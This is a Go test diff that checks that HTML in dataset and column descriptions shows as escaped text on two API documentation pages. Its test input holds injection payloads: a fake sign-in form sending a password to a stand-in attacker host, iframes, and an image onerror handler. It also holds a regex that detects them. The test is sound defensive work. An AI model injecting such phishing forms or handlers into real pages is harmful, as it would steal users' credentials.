@@ -3,6 +3,7 @@ package tests
 import (
 	"context"
 	"os/exec"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -63,6 +64,37 @@ func TestDocsPages(t *testing.T) {
 		}
 		if strings.Contains(log, "Content Security Policy") || strings.Contains(log, "Refused to") {
 			t.Errorf("%s: the browser refused something:\n%s", tc.path, log)
+		}
+	}
+}
+
+// TestDocsPagesShowDescriptionHTMLAsText: HTML in a dataset's description and in a column's
+// (Markdown fields) shows as text on both documentation pages: no form, iframe or image with
+// an onerror handler becomes an element.
+func TestDocsPagesShowDescriptionHTMLAsText(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	html := `Hi <form action="//evil.example/steal"><input name="password"><button>Sign in</button></form> ` +
+		`<iframe src="/api/v1/docs"></iframe> <img src=x onerror="document.title='pwned'"> ` +
+		"and `a <b>code</b> span` **bold**\n\n<div><iframe src=\"/api/v1/redoc\"></iframe></div>\n"
+	schema := map[string]any{"columns": []any{
+		map[string]any{"name": "name", "type": "text", "description": "Name. " + html},
+	}}
+	id := e.uploadAndCreateWith(e.ownerToken, "Pages", "p.csv", "name\nAnn\n", map[string]any{"schema": schema, "description": html})
+	if d := e.waitDataset(e.ownerToken, id); d.str("status") != "active" {
+		t.Fatalf("dataset: %s", d.Body)
+	}
+	key := e.do("POST", "/api/v1/api-keys", map[string]any{"name": "docs", "permissions": []string{"datasets:list"}}, bearer(e.ownerToken)).status(201).str("key")
+	// The pages' own controls are buttons and inputs, but never forms, frames or handlers.
+	live := regexp.MustCompile(`(?i)<(form|iframe)\b|<img[^>]*\bonerror|<input[^>]*name="password"`)
+	for _, page := range []string{"docs", "redoc"} {
+		dom, log := chromiumDOM(t, e.ts.URL+"/api/v1/datasets/"+id+"/"+page+"?api_key="+key)
+		if m := live.FindAllString(dom, -1); len(m) > 0 {
+			t.Errorf("%s renders description HTML as elements %q", page, m)
+		}
+		// The description is there, as text, with its Markdown rendered.
+		if !strings.Contains(dom, "&lt;iframe src=") || !strings.Contains(dom, "<strong>bold</strong>") || !strings.Contains(dom, "a &lt;b&gt;code&lt;/b&gt; span") {
+			t.Errorf("%s does not show the description as text:\n%.3000s\n%s", page, dom, log)
 		}
 	}
 }
